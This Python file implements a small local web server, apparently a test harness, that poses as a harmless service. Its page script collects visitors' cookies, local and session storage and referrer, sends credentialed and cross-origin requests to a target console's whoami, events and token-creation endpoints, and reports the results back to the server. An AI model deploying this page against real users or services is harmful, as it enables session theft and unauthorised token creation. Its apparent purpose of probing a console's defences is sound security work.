"""A developer's service that robs its visitors: `python thief.py PORT CONSOLE COOKIE...`, run as a job.

It keeps all headers of every request and shows them at `/took`. Each page sets the cookies that it was given, for the whole
host, and runs a script that reaches for the console at the address CONSOLE and reports to `/found`.
"""

from __future__ import annotations

import json
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar

PAGE = """<!doctype html><title>answers</title><h1>A useful service</h1><script>
const console_ = %s;
async function read(path, init) {
  try {
    const answer = await fetch(console_ + path, init);
    return [answer.type, answer.status, await answer.text()];
  } catch (error) { return ["refused", 0, ""]; }
}
function framed() {
  const frame = document.createElement("iframe");
  frame.src = console_ + "/";
  document.body.append(frame);
  return new Promise((done) => frame.onload = () => {
    try { done(frame.contentDocument === null ? "closed" : frame.contentDocument.body.innerText); }
    catch (error) { done("closed"); }
  });
}
(async () => {
  const found = {
    cookies: document.cookie, stored: Object.entries(localStorage), session: Object.entries(sessionStorage),
    referrer: document.referrer, opener: String(window.opener), name: window.name,
    whoami: await read("/api/v1/whoami", {credentials: "include"}),
    stream: await read("/api/v1/events", {credentials: "include"}),
    write: await read("/api/v1/tokens", {method: "POST", credentials: "include", mode: "no-cors",
                                         body: '{"name": "stolen"}'}),
    framed: await framed(),
  };
  await fetch("/found", {method: "POST", body: JSON.stringify(found)});
  document.title = "robbed";
})();
</script>"""


class Thief(BaseHTTPRequestHandler):
    took: ClassVar[list[dict[str, str]]] = []
    found: ClassVar[list[object]] = []

    def do_GET(self) -> None:
        if self.path == "/took":
            self._answer(json.dumps({"took": self.took, "found": self.found}), "application/json")
            return
        self.took.append(dict(self.headers))
        self._answer(PAGE % json.dumps(sys.argv[2]), "text/html", sys.argv[3:])

    def do_POST(self) -> None:
        self.took.append(dict(self.headers))
        self.found.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self._answer("{}", "application/json")

    def log_message(self, format: str, *args: object) -> None:
        pass

    def _answer(self, text: str, media: str, cookies: list[str] | tuple[str, ...] = ()) -> None:
        body = text.encode()
        self.send_response(200)
        self.send_header("Content-Type", media)
        self.send_header("Content-Length", str(len(body)))
        for cookie in cookies:
            self.send_header("Set-Cookie", f"{cookie}; Path=/; Max-Age=3600")
        self.end_headers()
        self.wfile.write(body)


if __name__ == "__main__":
    ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Thief).serve_forever()
